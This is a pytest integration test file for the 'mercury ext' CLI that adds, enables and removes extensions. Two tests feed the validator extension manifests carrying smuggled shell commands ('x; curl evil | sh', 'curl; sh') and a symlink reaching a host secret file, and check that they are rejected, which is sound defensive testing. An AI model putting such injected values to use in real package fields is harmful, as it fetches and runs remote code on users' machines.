"""`mercury ext ...` against a tmp site: real extension folders, a real commented
mercury.yaml, each command's answer and error lines, and what it did read back from disk
(the installed folder, the config file through the real config loader and load_enabled).

The commands run in this process through click's test runner (the real command code and
output); the last test runs `mercury ext` as a real process to prove the group is wired.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from mercury.cli import main
from mercury.config import load_config
from mercury.extensions import load_enabled
from tests.integration.cli_logging import logging_as_it_was
from tests.integration.mercury_site import mercury

CLEAN_ENV = {"MERCURY_CONFIG": None, "COLUMNS": "200", "NO_COLOR": "1", "TERM": "dumb"}

CONFIG = """\
# The test site.
instance: cliext  # its name
data_dir: data
extensions:
  # where `mercury ext add` copies to
  dir: installed
  settings:
    web-reader: {max_chars: 500}
"""


def write_extension(root: Path, name: str, **manifest: Any) -> Path:
    folder = root / name
    (folder / "skills" / name).mkdir(parents=True)
    (folder / "skills" / name / "SKILL.md").write_text(f"# {name}\n")
    data = {"name": name, "version": "1.0.0", "description": f"The {name} extension"}
    data.update(manifest)
    (folder / "extension.yaml").write_text(yaml.safe_dump(data, sort_keys=False))
    return folder


class Site:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.config = root / "mercury.yaml"
        self.config.write_text(CONFIG)
        self.installed = root / "installed"
        self.src = root / "src"
        write_extension(
            self.src,
            "web-reader",
            install={"pip": ["trafilatura>=2.0"], "apt": ["poppler-utils"]},
            network=["*.wikipedia.org", "example.com:8443"],
            services={"wiki": {"base_url": "https://api.wikimedia.org"}},
            mcp={"notes": {"command": ["python", "server.py"]}},
            settings={"max_chars": {"type": "int", "default": 20000, "description": "cap"}},
        )
        write_extension(self.src, "charts", permission="ext:charts")

    def cli(self, *args: str, env: dict[str, str | None] | None = None) -> Any:
        with logging_as_it_was():
            result = CliRunner().invoke(
                main,
                ["--config", str(self.config), "ext", *args],
                env={**CLEAN_ENV, **(env or {})},
            )
        if result.exception is not None and not isinstance(result.exception, SystemExit):
            raise result.exception
        return SimpleNamespace(
            returncode=result.exit_code, stdout=result.stdout, stderr=result.stderr
        )

    def ok(self, *args: str) -> str:
        r = self.cli(*args)
        assert r.returncode == 0, r.stderr
        assert r.stderr == ""
        return str(r.stdout)

    def error(self, *args: str, code: int = 1, env: dict[str, str | None] | None = None) -> str:
        """The one `error: ...` line a failing command prints (nothing on stdout)."""
        r = self.cli(*args, env=env)
        assert r.returncode == code, (r.stdout, r.stderr)
        assert r.stdout == ""
        lines = r.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: "), r.stderr
        return lines[0].removeprefix("error: ")

    def enabled(self) -> list[str]:
        return list(load_config(self.config, env={}).config.extensions.enabled)

    def listed(self) -> dict[str, dict[str, Any]]:
        return {e["name"]: e for e in json.loads(self.ok("list", "--json"))["extensions"]}


@pytest.fixture
def site(tmp_path: Path) -> Site:
    return Site(tmp_path)


def test_validate(site: Site) -> None:
    assert site.ok("validate", str(site.src / "web-reader")) == "ok: web-reader 1.0.0\n"
    bad = write_extension(site.root / "bad", "evil", install={"pip": ["x; curl evil | sh"]})
    assert site.error("validate", str(bad)) == (
        'extension.yaml: install.pip[0]: "x; curl evil | sh" is not a package specifier '
        "(name[extras]>=version)"
    )
    wrong = write_extension(site.root / "bad", "other", services={"gh": {"base_url": "ftp://x"}})
    assert site.error("validate", str(wrong)).startswith("extension.yaml: services.gh.base_url: ")
    assert site.error("validate", str(site.root / "nowhere")).startswith(
        "extension.yaml: not found"
    )


def test_add_list_enable_disable_remove(site: Site) -> None:
    assert "No extensions in" in site.ok("list")
    out = site.ok("add", str(site.src / "web-reader"))
    assert out == (
        f"Added web-reader 1.0.0 to {site.installed}. "
        "Enable it with `mercury ext enable web-reader`.\n"
    )
    assert (site.installed / "web-reader" / "skills" / "web-reader" / "SKILL.md").is_file()
    assert site.error("add", str(site.src / "web-reader")) == (
        f'cannot add {site.src / "web-reader"}: "web-reader" is already in {site.installed} '
        "(--force replaces it)"
    )
    site.ok("add", str(site.src / "charts"))

    text = site.ok("list")
    assert f"Extensions in {site.installed}:" in text
    assert "web-reader 1.0.0  disabled  permission: run" in text
    assert "  network: *.wikipedia.org, example.com:8443" in text
    assert "  services: wiki (https://api.wikimedia.org)" in text
    assert "  mcp: notes (command)" in text
    assert "  install: apt poppler-utils; pip trafilatura>=2.0" in text
    assert "  settings: max_chars=500" in text  # the config's value over the default
    assert "charts 1.0.0  disabled  permission: ext:charts" in text

    out = site.ok("enable", "web-reader")
    assert out == (
        f"Enabled web-reader 1.0.0 in {site.config}. "
        "A running Mercury picks it up at its next start.\n"
    )
    assert site.enabled() == ["web-reader"]
    assert "ext:charts: grant it through a custom role" in site.ok("enable", "charts")
    assert site.enabled() == ["web-reader", "charts"]
    assert site.ok("enable", "charts") == "charts is already enabled.\n"
    text = site.config.read_text()
    for kept in ("# The test site.", "instance: cliext  # its name", "# where `mercury ext add`"):
        assert kept in text
    assert "  enabled: [web-reader, charts]\n" in text

    # What Mercury itself loads at its start.
    loaded = load_enabled(load_config(site.config, env={}).config)
    assert list(loaded) == ["web-reader", "charts"]
    assert loaded["web-reader"].env == {"MERCURY_EXT_WEB_READER_MAX_CHARS": "500"}
    assert site.listed()["web-reader"]["enabled"] is True

    assert site.error("remove", "charts") == (
        '"charts" is enabled: `mercury ext disable charts` first (or --force)'
    )
    assert site.ok("disable", "charts") == (
        f"Disabled charts in {site.config}. A running Mercury drops it at its next start.\n"
    )
    assert site.ok("disable", "charts") == "charts is not enabled.\n"
    assert site.enabled() == ["web-reader"]
    assert site.ok("remove", "charts") == f"Removed charts from {site.installed}.\n"
    assert not (site.installed / "charts").exists()

    out = site.ok("remove", "web-reader", "--force")
    assert out.startswith(f"Removed web-reader from {site.installed}. Disabled it in ")
    assert site.enabled() == [] and not (site.installed / "web-reader").exists()
    assert "# The test site." in site.config.read_text()


def test_add_replaces_only_with_force(site: Site) -> None:
    site.ok("add", str(site.src / "web-reader"))
    site.ok("enable", "web-reader")
    manifest = site.src / "web-reader" / "extension.yaml"
    manifest.write_text(manifest.read_text().replace("1.0.0", "1.1.0"))
    out = site.ok("add", "--force", str(site.src / "web-reader"))
    assert out == (
        f"Replaced web-reader in {site.installed} with 1.1.0. "
        "It is enabled; a running Mercury picks it up at its next start.\n"
    )
    assert site.listed()["web-reader"]["version"] == "1.1.0"


def test_add_refuses_a_bad_folder(site: Site) -> None:
    evil = write_extension(site.root / "bad", "evil", install={"apt": ["curl; sh"]})
    assert site.error("add", str(evil)).startswith("extension.yaml: install.apt[0]: ")
    assert not (site.installed / "evil").exists()
    (site.root / "hostfile").write_text("secret")
    linked = write_extension(site.root / "bad2", "linked")
    (linked / "notes.txt").symlink_to(site.root / "hostfile")
    assert site.error("add", str(linked)) == (
        f"cannot add {linked}: notes.txt: a symlink leading outside the folder"
    )
    assert not (site.installed / "linked").exists()


def test_list_shows_invalid_and_missing(site: Site) -> None:
    site.ok("add", str(site.src / "charts"))
    site.ok("enable", "charts")
    broken = site.installed / "broken"
    broken.mkdir()
    (broken / "extension.yaml").write_text("name: broken\nversion: '1'\ndescription: x\nx: 1\n")
    shutil.rmtree(site.installed / "charts")  # enabled, then deleted by hand
    text = site.ok("list")
    assert (
        "broken  disabled  invalid: extension.yaml: x: unknown key (known: name, version," in text
    )
    assert f"charts  enabled  invalid: not found in {site.installed}" in text
    entries = site.listed()
    assert entries["broken"]["error"].startswith("extension.yaml: x: unknown key")


def test_enable_refuses(site: Site) -> None:
    assert site.error("enable", "web-reader") == (
        f'"web-reader" is not in {site.installed} (`mercury ext add PATH` installs it)'
    )
    assert site.error("enable", "../src").startswith('"../src" is not an extension name')
    site.ok("add", str(site.src / "web-reader"))
    manifest = site.installed / "web-reader" / "extension.yaml"
    good = manifest.read_text()
    manifest.write_text(good.replace("'*.wikipedia.org'", "'http://wikipedia.org'"))
    assert site.error("enable", "web-reader").startswith(
        'web-reader: extension.yaml: network[0]: "http://wikipedia.org" is not a host pattern'
    )
    manifest.write_text(good)
    site.config.write_text(CONFIG.replace("{max_chars: 500}", "{max_chars: lots}"))
    assert site.error("enable", "web-reader") == (
        'extensions.settings.web-reader.max_chars: expected a whole number, got "lots"'
    )
    site.config.write_text(CONFIG)
    env = {"MERCURY_EXTENSIONS__ENABLED": "[charts]"}
    assert site.error("enable", "web-reader", env=env) == (
        "extensions.enabled is set by MERCURY_EXTENSIONS__ENABLED: change it there"
    )
    assert site.enabled() == []
    assert site.error("remove", "nothing") == f'"nothing" is not in {site.installed}'


def test_a_config_that_does_not_load(site: Site) -> None:
    site.config.write_text("extensions: {dir: x, colour: red}\n")
    r = site.cli("list")
    assert r.returncode == 2 and r.stderr.startswith("config: extensions.colour: unknown key")


def test_no_config_file_to_change(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_extension(tmp_path / "extensions", "charts")
    monkeypatch.chdir(tmp_path)  # no mercury.yaml here: the defaults apply
    with logging_as_it_was():
        result = CliRunner().invoke(main, ["ext", "enable", "charts"], env=CLEAN_ENV)
    assert result.exit_code == 1
    assert result.stderr == (
        "error: no config file to change: run `mercury init` first (or pass --config)\n"
    )


def test_mercury_ext_as_a_process(site: Site) -> None:
    env = {"PATH": os.environ["PATH"]}
    r = mercury("ext", "validate", str(site.src / "charts"), cwd=site.root, env=env, timeout=60)
    assert (r.returncode, r.stdout, r.stderr) == (0, "ok: charts 1.0.0\n", "")
    r = mercury("ext", "enable", "charts", cwd=site.root, env=env, timeout=60)
    assert r.returncode == 1 and r.stderr.startswith('error: "charts" is not in ')
